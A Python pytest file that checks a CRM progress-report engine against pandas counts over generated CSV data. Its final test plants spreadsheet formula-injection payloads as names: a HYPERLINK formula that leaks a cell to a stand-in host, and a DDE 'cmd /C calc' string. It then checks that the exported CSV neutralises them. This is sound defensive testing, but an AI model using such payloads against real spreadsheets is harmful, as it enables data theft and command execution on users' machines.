"""Progress reports (engine.reports) against pandas on the raw files, for every level and
grain: each activity type, opportunities created, entries to every stage, revenue, goals."""
from __future__ import annotations

import pandas as pd
import pytest

from engine.catalog import load_catalog
from engine.dataset import load_dataset
from engine.demo.org import generate_org, write_org
from engine.reports import build_report, month_facts
from engine.reports.facts import Facts

MONTH = "2026-10"


@pytest.fixture(scope="module")
def org(tmp_path_factory):
    cat = load_catalog(None)
    folder = tmp_path_factory.mktemp("report-org") / "org"
    write_org(generate_org(cat.pipeline, reps=30, months=3, seed=11, end=MONTH), folder)
    ds = load_dataset(folder, cat.pipeline)
    return folder, ds, cat


def raw(folder):
    read = lambda name: pd.read_csv(folder / f"{name}.csv", dtype=str, keep_default_na=False)  # noqa: E731
    return read("reps"), read("activities"), read("opportunities"), read("stage_history"), read("goals")


def expected(folder, ds, stages, types, by: str, grain: str) -> dict:
    """(key, bucket, metric) -> value, counted with pandas on the raw CSV files."""
    reps, acts, opps, hist, goals = raw(folder)
    start = pd.Timestamp(f"{MONTH}-01")
    end = min(start + pd.offsets.MonthBegin(1), ds.as_of.normalize() + pd.Timedelta(days=1))
    group = dict(zip(reps["rep_id"], reps["rep_id"] if by == "rep" else reps[by]))

    def bucket(days: pd.Series) -> pd.Series:
        if grain == "day":
            return days
        if grain == "month":
            return pd.Series(start, index=days.index)
        monday = days - pd.to_timedelta(days.dt.day_of_week, unit="D")
        return monday.where(monday >= start, start)

    def window(frame, col):
        d = pd.to_datetime(frame[col]).dt.normalize()
        keep = (d >= start) & (d < end)
        return frame[keep].assign(day=d[keep])

    out: dict = {}

    def add(frame, metric_col=None, metric=None, value_col=None):
        for row in frame.itertuples(index=False):
            k = (row.key, row.bucket, metric or f"{metric_col}")
            out[k] = out.get(k, 0) + (getattr(row, value_col) if value_col else 1)

    a = window(acts, "date")
    a = a.assign(key=a["rep_id"].map(group), bucket=bucket(a["day"]), metric="activity." + a["type"])
    for (k, b, m), n in a.groupby(["key", "bucket", "metric"]).size().items():
        out[(k, b, m)] = n
    c = window(opps, "created_date")
    owners = c[["opportunity_id", "rep_id", "day"]]
    sources = c.loc[(c["source_rep_id"] != "") & (c["source_rep_id"] != c["rep_id"]),
                    ["opportunity_id", "source_rep_id", "day"]].rename(columns={"source_rep_id": "rep_id"})
    both = pd.concat([owners, sources])
    both = both.assign(key=both["rep_id"].map(group), bucket=bucket(both["day"]))
    for (k, b), n in both.drop_duplicates(["opportunity_id", "key", "bucket"]).groupby(["key", "bucket"]).size().items():
        out[(k, b, "opportunities_created")] = n
    owner = dict(zip(opps["opportunity_id"], opps["rep_id"]))
    with_history = set(hist["opportunity_id"])
    won_in_history = set(hist.loc[hist["stage"] == "won", "opportunity_id"])
    h = window(hist, "entered_date")[["opportunity_id", "stage", "day"]]
    first = window(opps[~opps["opportunity_id"].isin(with_history)], "created_date") \
        .assign(stage=stages[0])[["opportunity_id", "stage", "day"]]
    won = opps[(opps["status"] == "won") & ~opps["opportunity_id"].isin(won_in_history)]
    won = window(won, "close_date").assign(stage="won")[["opportunity_id", "stage", "day"]]
    e = pd.concat([h, first, won])
    e = e.assign(key=e["opportunity_id"].map(owner).map(group), bucket=bucket(e["day"]))
    e = e.drop_duplicates(["opportunity_id", "stage", "key", "bucket"])
    for (k, b, s), n in e.groupby(["key", "bucket", "stage"]).size().items():
        out[(k, b, f"stage_entries.{s}")] = n
    r = window(opps[opps["status"] == "won"], "close_date")
    r = r.assign(key=r["rep_id"].map(group), bucket=bucket(r["day"]),
                 amount=pd.to_numeric(r["amount"], errors="coerce"))
    for (k, b), v in r.groupby(["key", "bucket"])["amount"].sum().items():
        out[(k, b, "revenue")] = v
    if grain == "month":
        g = goals[goals["period"] == MONTH]
        metrics = {f"activity.{t}" for t in types} | {"opportunities_created", "revenue"} | \
            {f"stage_entries.{s}" for s in stages}
        g = g[g["metric"].isin(metrics)].assign(key=g["rep_id"].map(group), target=pd.to_numeric(g["target"]))
        for (k, m), v in g.groupby(["key", "metric"])["target"].sum().items():
            out[(k, start, f"goal.{m}")] = v
    return out


@pytest.mark.parametrize("by", ["division", "team", "rep"])
@pytest.mark.parametrize("grain", ["day", "week", "month"])
def test_report_counts_match_pandas_on_the_raw_files(org, by, grain):
    folder, ds, cat = org
    facts = month_facts(ds, MONTH)
    report = build_report(facts, by, grain)
    want = expected(folder, ds, list(ds.stages), list(ds.activity_types), by, grain)
    got = {(r.key, r.start, r.metric): r.value for r in report.rows.itertuples(index=False)}
    # every group, bucket and metric is in the report (zeros included), every figure as pandas counts it
    groups = set(pd.read_csv(folder / "reps.csv")["rep_id" if by == "rep" else by])
    assert {k for k, _, _ in got} == groups
    days = (facts.end - facts.start).days                 # the month, up to the data's as-of day
    assert len({b for _, b, _ in got}) == {"day": days, "week": len(pd.date_range(
        facts.start - pd.Timedelta(days=facts.start.day_of_week), facts.end - pd.Timedelta(days=1), freq="W-MON")),
        "month": 1}[grain]
    for key, value in want.items():
        assert got.get(key) == pytest.approx(value), key
    extra = {k: v for k, v in got.items() if k not in want and v != 0}
    assert not extra, list(extra.items())[:5]
    assert set(report.rows.columns) == {"level", "key", "name", "start", "metric", "value"}
    assert (report.rows["level"] == by).all()
    if grain == "month":
        assert any(m.startswith("goal.") for m in report.rows["metric"])


def test_the_csv_is_long_form_with_contract_metric_ids(org):
    _, ds, cat = org
    report = build_report(month_facts(ds, MONTH), "team", "week")
    lines = report.to_csv().splitlines()
    assert lines[0] == "level,key,name,start,metric,value"
    metrics = {line.split(",")[4] for line in lines[1:]}
    for m in metrics:
        cat.registry.get(m)                 # every id is a metric of the registry (the data contract)
    assert {"activity.call", "opportunities_created", "stage_entries.won", "revenue"} <= metrics
    assert all(line.split(",")[3].startswith(MONTH) for line in lines[1:])


def test_a_scope_limits_the_report_and_facts_round_trip(org, tmp_path):
    _, ds, _ = org
    facts = month_facts(ds, MONTH)
    facts.save(tmp_path / "f")
    again = Facts.load(tmp_path / "f")
    reps = list(ds.reps.loc[ds.reps["team"] == ds.reps["team"].iloc[0], "rep_id"])
    a = build_report(facts, "rep", "month", reps=reps)
    b = build_report(again, "rep", "month", reps=reps)
    assert set(a.groups["key"]) == set(reps)
    pd.testing.assert_frame_equal(a.rows, b.rows, check_dtype=False)


def test_a_month_with_no_data_is_all_zeros_and_bad_choices_are_refused(org):
    _, ds, _ = org
    report = build_report(month_facts(ds, "2025-01"), "division", "week")
    assert report.rows["value"].eq(0).all()
    with pytest.raises(ValueError, match="--by"):
        build_report(month_facts(ds, MONTH), "region", "day")
    with pytest.raises(ValueError, match="--grain"):
        build_report(month_facts(ds, MONTH), "team", "hour")


def test_names_from_the_crm_are_never_formulas_in_the_csv(tmp_path):
    """A team or rep named like a spreadsheet formula is text in the CSV (a leading apostrophe)."""
    import csv
    import io

    cat = load_catalog(None)
    folder = tmp_path / "org"
    write_org(generate_org(cat.pipeline, reps=12, months=2, seed=3, end=MONTH), folder)
    reps = pd.read_csv(folder / "reps.csv", dtype=str, keep_default_na=False)
    evil = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"]
    first_team = reps["team"].iloc[0]
    reps.loc[reps["team"] == first_team, "team"] = evil[0]
    reps.loc[0, "name"], reps.loc[1, "name"], reps.loc[2, "name"] = evil[1:]
    reps.to_csv(folder / "reps.csv", index=False)
    ds = load_dataset(folder, cat.pipeline)
    for by in ("team", "rep"):
        rows = list(csv.DictReader(io.StringIO(build_report(month_facts(ds, MONTH), by=by, grain="month").to_csv())))
        names = {r["name"] for r in rows} | {r["key"] for r in rows}
        assert not [n for n in names if n[:1] in ("=", "+", "-", "@")], by
        shown = {n[1:] for n in names if n.startswith("'")}
        assert (evil[0] in shown) if by == "team" else set(evil[1:]) <= shown
